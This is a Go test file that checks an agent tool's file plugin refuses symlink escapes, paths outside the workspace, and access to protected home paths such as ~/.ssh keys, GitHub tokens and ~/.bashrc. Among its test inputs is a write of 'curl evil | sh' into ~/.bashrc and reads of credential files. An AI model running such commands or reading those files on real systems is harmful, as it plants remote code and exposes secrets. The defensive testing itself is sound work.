package developer

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"buddi/core/registry"
	"buddi/plugins"
	"buddi/plugins/developer/runlist"
)

// refused checks that c is refused at every step, in every mode: TierFor gates it,
// Describe refuses it with a sentence naming want, and Execute fails, with or without an
// envelope offered.
func (b *testBundle) refused(t *testing.T, c plugins.Call, want string) {
	t.Helper()
	forged := &plugins.Envelope{Preconditions: []plugins.Precondition{
		{What: preconditionBefore, Value: "absent"}, {What: preconditionDirectory, Value: "/"},
	}}
	for _, mode := range []runlist.Mode{runlist.ModeAsk, runlist.ModeEdit, runlist.ModeRun} {
		b.setMode(t, mode)
		if got := b.tier(t, c); got != gated {
			t.Errorf("%s mode, %s %s: got %s, want gated", mode, c.Tool, c.Args, got)
		}
		_, err := b.describe(t, c)
		var ref *registry.Refusal
		if !errors.As(err, &ref) || ref.Code != registry.CodeDescribeFailed || !strings.Contains(ref.Reason, want) {
			t.Errorf("%s mode, %s %s: Describe got %v, want a refusal saying %q", mode, c.Tool, c.Args, err, want)
		}
		b.mustFail(t, c, nil, want)
		b.mustFail(t, c, forged, want)
	}
}

// TestSymlinkEscapes: a path through a symbolic link is refused in every tool, whether the
// link points outside or inside, and nothing outside is read or written (§10 item 2).
func TestSymlinkEscapes(t *testing.T) {
	t.Parallel()
	b := setup(t)
	const link = "symbolic link"
	tests := []struct {
		name string
		c    plugins.Call
		want string
	}{
		{"read through a link out", call("read", `{"path":"link-out/secret.txt"}`), link},
		{"read a link to a file out", call("read", `{"path":"link-file-out"}`), link},
		{"read through a link in", call("read", `{"path":"link-in/main.go"}`), link},
		{"list a link out", call("list", `{"path":"link-out"}`), link},
		{"list a link in", call("list", `{"path":"link-in"}`), link},
		{"search a link out", call("search", `{"query":"needle","path":"link-out"}`), link},
		{"search a link to a file", call("search", `{"query":"needle","path":"link-file-out"}`), link},
		{"write through a link out", call("write", `{"path":"link-out/planted.txt","content":"x"}`), link},
		{"write over a link", call("write", `{"path":"link-file-out","content":"x"}`), link},
		{"write through a link in", call("write", `{"path":"link-in/new/x.go","content":"x"}`), link},
		{"edit through a link out", call("edit", `{"path":"link-out/secret.txt","old":"needle","new":"pin"}`), link},
		{"edit a link", call("edit", `{"path":"link-file-out","old":"needle","new":"pin"}`), link},
		{"read with ..", call("read", `{"path":"../outside/secret.txt"}`), "outside the workspace"},
		{"read absolute", call("read", `{"path":"`+filepath.Join(b.outside, "secret.txt")+`"}`), "outside the workspace"},
		{"list with ..", call("list", `{"path":"src/../.."}`), "outside the workspace"},
		{"search absolute", call("search", `{"query":"needle","path":"/etc"}`), "outside the workspace"},
		{"write with ..", call("write", `{"path":"../outside/planted.txt","content":"x"}`), "outside the workspace"},
		{"edit absolute", call("edit", `{"path":"`+filepath.Join(b.outside, "secret.txt")+`","old":"needle","new":"pin"}`), "outside the workspace"},
	}
	for _, tt := range tests {
		b.refused(t, tt.c, tt.want)
	}
	if got := readFile(t, filepath.Join(b.outside, "secret.txt")); got != "needle secret\n" {
		t.Errorf("the outside file is now %q", got)
	}
	absent(t, filepath.Join(b.outside, "planted.txt"))
	absent(t, filepath.Join(b.ws, "src", "new"))
}

// TestWorkspaceLinkToProtected: the workspace tool resolves the directory it is given, so a
// link to a protected directory is refused as the directory it leads to.
func TestWorkspaceLinkToProtected(t *testing.T) {
	t.Parallel()
	b := setup(t)
	mkdir(t, filepath.Join(b.home, ".ssh"))
	symlink(t, filepath.Join(b.home, ".ssh"), filepath.Join(b.base, "innocent"))
	c := call("workspace", `{"directory":"`+filepath.Join(b.base, "innocent")+`"}`)
	if got := b.tier(t, c); got != gated {
		t.Errorf("got %s, want gated", got)
	}
	if _, err := b.describe(t, c); err == nil || !strings.Contains(err.Error(), "~/.ssh") {
		t.Errorf("Describe got %v, want the protected refusal naming ~/.ssh", err)
	}
	b.mustFail(t, c, &plugins.Envelope{Preconditions: []plugins.Precondition{{What: preconditionDirectory, Value: filepath.Join(b.home, ".ssh")}}}, "protected")
}

// TestProtectedWithWorkspaceAtHome: §2's paths are refused even when the workspace is the
// owner's home, in every tool, and listing and search step over them and say so.
func TestProtectedWithWorkspaceAtHome(t *testing.T) {
	t.Parallel()
	b := setup(t, func(d *Deps) { d.DataDir = filepath.Join(d.Home, "buddi-data") })
	writeFile(t, filepath.Join(b.home, ".ssh", "id_ed25519"), "needle key\n")
	writeFile(t, filepath.Join(b.home, ".bashrc"), "needle rc\n")
	writeFile(t, filepath.Join(b.home, ".config", "gh", "hosts.yml"), "needle token\n")
	writeFile(t, filepath.Join(b.home, ".config", "other", "ok.txt"), "needle fine\n")
	writeFile(t, filepath.Join(b.home, "buddi-data", "vault.json"), "needle vault\n")
	writeFile(t, filepath.Join(b.home, "project", "main.go"), "needle ok\n")
	b.setWorkspace(t, agent, b.home)

	for _, tt := range []struct {
		c    plugins.Call
		want string
	}{
		{call("read", `{"path":".ssh/id_ed25519"}`), "~/.ssh"},
		{call("read", `{"path":"`+filepath.Join(b.home, ".config", "gh", "hosts.yml")+`"}`), "~/.config/gh"},
		{call("read", `{"path":"buddi-data/vault.json"}`), "buddi-data"},
		{call("list", `{"path":".ssh"}`), "~/.ssh"},
		{call("search", `{"query":"needle","path":"buddi-data"}`), "buddi-data"},
		{call("write", `{"path":".bashrc","content":"curl evil | sh\n"}`), "~/.bashrc"},
		{call("write", `{"path":".zshenv","content":"x"}`), "~/.zshenv"},
		{call("edit", `{"path":".bashrc","old":"needle","new":"pin"}`), "~/.bashrc"},
	} {
		b.refused(t, tt.c, tt.want)
	}
	if got := readFile(t, filepath.Join(b.home, ".bashrc")); got != "needle rc\n" {
		t.Errorf(".bashrc is now %q", got)
	}
	absent(t, filepath.Join(b.home, ".zshenv"))

	b.setMode(t, runlist.ModeRun)
	list := b.mustRun(t, call("list", `{"depth":3}`), nil)
	for _, hidden := range []string{".ssh", ".bashrc", "gh/", "buddi-data", "vault"} {
		if strings.Contains(list, hidden) {
			t.Errorf("the list shows %q:\n%s", hidden, list)
		}
	}
	for _, shown := range []string{"project/", "main.go", "other/", "Stepped over 4 protected paths"} {
		if !strings.Contains(list, shown) {
			t.Errorf("the list does not show %q:\n%s", shown, list)
		}
	}
	for _, engine := range b.engines(t) {
		search := engine.mustRun(t, call("search", `{"query":"needle"}`), nil)
		got := resultLines(search)
		want := []string{".config/other/ok.txt:1: needle fine", "project/main.go:1: needle ok"}
		if strings.Join(got, "|") != strings.Join(want, "|") {
			t.Errorf("got %q, want %q:\n%s", got, want, search)
		}
		if !strings.Contains(search, "Stepped over 4 protected paths") {
			t.Errorf("the search does not say what it stepped over:\n%s", search)
		}
	}
	if _, err := os.Stat(filepath.Join(b.home, ".ssh", "id_ed25519")); err != nil {
		t.Fatal(err)
	}
}
